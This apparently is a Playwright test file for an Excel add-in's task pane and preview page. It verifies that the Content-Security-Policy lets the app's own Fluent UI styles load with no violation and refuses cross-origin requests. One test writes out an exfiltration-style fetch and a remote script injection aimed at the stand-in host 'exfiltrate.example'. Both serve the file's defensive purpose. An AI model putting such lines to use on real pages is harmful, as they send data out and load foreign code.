// The pages' Content-Security-Policy in Chromium: the pane (Fluent UI's runtime styles included), the
// preview page and the shared runtime load with no violation, and a fetch to another origin is refused.
import type { Page } from "playwright-core";
import { DEMO_API_KEY } from "../../sandbox/demo-key";
import { nav, tid } from "./cockpit-helpers";
import { startHarness, type Harness } from "./harness";

let h: Harness;

type Violation = { directive: string; blocked: string };
type W = { __cspViolations: Violation[] };

beforeAll(async () => {
  h = await startHarness();
  // Every page records the browser's securitypolicyviolation events from its first script on.
  await h.context.addInitScript(() => {
    const w = window as unknown as W;
    w.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      w.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
    });
  });
});

afterAll(async () => {
  await h?.close();
});

const violations = (page: Page) => page.evaluate(() => (window as unknown as W).__cspViolations);

/** Console errors that are CSP refusals (Chromium logs "Refused to …" for each). */
function cspConsole(): string[] {
  return h.problems.filter((p) => /Content Security Policy|Refused to/i.test(p));
}

describe("Content-Security-Policy", () => {
  test("task pane: loads, connects to the sandbox and renders Fluent UI with no violation", async () => {
    const query = new URLSearchParams({ baseUrl: h.sandbox.url, lang: "en" }).toString();
    const page = await h.openPage(`/taskpane.html?${query}`, { excel: true });
    await page.waitForSelector(`${tid("app-root")}[data-ready="true"]`);
    await page.fill(tid("key-input"), DEMO_API_KEY);
    await page.click(tid("key-verify"));
    await page.waitForSelector(`${tid("connection-status")}[data-state="ok"]`);
    // Tabs that mount more Fluent components (and their Griffel rules).
    await nav(page, "import");
    await nav(page, "refresh");
    // Griffel's rules are in effect: a Fluent button is styled (not the browser's default look).
    const radius = await page
      .locator("button.fui-Button")
      .first()
      .evaluate((b) => getComputedStyle(b).borderTopLeftRadius);
    expect(radius).not.toBe("0px");
    const griffelRules = await page.evaluate(() =>
      [...document.styleSheets].reduce((n, s) => {
        try {
          return n + s.cssRules.length;
        } catch {
          return n;
        }
      }, 0),
    );
    expect(griffelRules).toBeGreaterThan(50);
    expect(await violations(page)).toEqual([]);
    expect(cspConsole()).toEqual([]);
    await page.close();
  });

  test("task pane: a fetch to another origin is refused by the policy, before any network", async () => {
    const page = await h.openPage("/taskpane.html?lang=en", { excel: true });
    await page.waitForSelector(`${tid("app-root")}[data-ready="true"]`);
    const outcome = await page.evaluate(() =>
      fetch("https://exfiltrate.example/collect?k=1").then(
        () => "sent",
        (e: unknown) => `refused: ${String(e)}`,
      ),
    );
    expect(outcome).toMatch(/^refused/);
    await page.waitForFunction(() => (window as unknown as W).__cspViolations.length > 0);
    expect(await violations(page)).toEqual([
      { directive: "connect-src", blocked: "https://exfiltrate.example/collect?k=1" },
    ]);
    // An injected script from elsewhere is refused as well.
    await page.evaluate(() => {
      const s = document.createElement("script");
      s.src = "https://exfiltrate.example/x.js";
      document.head.appendChild(s);
    });
    await page.waitForFunction(() =>
      (window as unknown as W).__cspViolations.some((v) => v.directive === "script-src-elem"),
    );
    h.problems.splice(0, h.problems.length);
    await page.close();
  });

  test("preview page: loads its grid and calculates with no violation", async () => {
    const query = new URLSearchParams({ baseUrl: h.sandbox.url, lang: "en" }).toString();
    const page = await h.openPage(`/preview.html?${query}`);
    await page.waitForSelector('[data-testid="preview-root"][data-ready="true"]');
    expect(await violations(page)).toEqual([]);
    expect(cspConsole()).toEqual([]);
    await page.close();
  });
});
